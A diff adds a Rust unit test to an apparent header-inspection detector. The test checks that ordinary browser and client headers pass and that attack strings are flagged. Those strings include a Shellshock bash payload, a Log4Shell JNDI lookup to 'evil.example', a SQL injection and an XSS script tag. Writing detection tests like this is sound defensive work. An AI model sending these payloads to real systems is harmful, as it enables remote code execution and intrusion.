@@ -82,6 +82,36 @@ fn honest_text_is_left_alone() {
     }
 }
 
+/// Headers of browsers and of the clients that people send logs with raise no alarm; attacks in headers do.
+#[test]
+fn ordinary_headers_are_left_alone() {
+    let header = |line: &str| inspect(Part::Header, line);
+    for honest in [
+        "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
+        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Mobile/15E148 Safari/604.1",
+        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+        "Elastic/8.14.0 (Linux; Python 3.11; pypi elasticsearch 8.14)",
+        "opensearch-py/2.6.0 (Python 3.11.2)",
+        "syslog-ng 3.38.1/libcurl 7.88.1",
+        "Wget/1.21.3",
+        "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW",
+        "http://192.168.1.20/start",
+        "https://www.google.com/search?q=mvai+connexx+%22logistics%22&hl=nl",
+        "10.0.0.1, 172.16.3.4",
+        "session={\"a\":\"b\",\"c\":[1,2]}",
+    ] {
+        assert!(!header(honest).is_event(), "{honest}: {:?}", header(honest));
+    }
+    for attack in [
+        "() { :;}; /bin/bash -c id",
+        "${jndi:ldap://evil.example/a}",
+        "' or 1=1 --",
+        "<script>alert(1)</script>",
+    ] {
+        assert!(header(attack).is_event(), "{attack}");
+    }
+}
+
 /// What comes late in a long value counts up to the bound of its part; nothing is too long, too deep or too strange.
 #[test]
 fn values_of_any_kind_are_judged() {
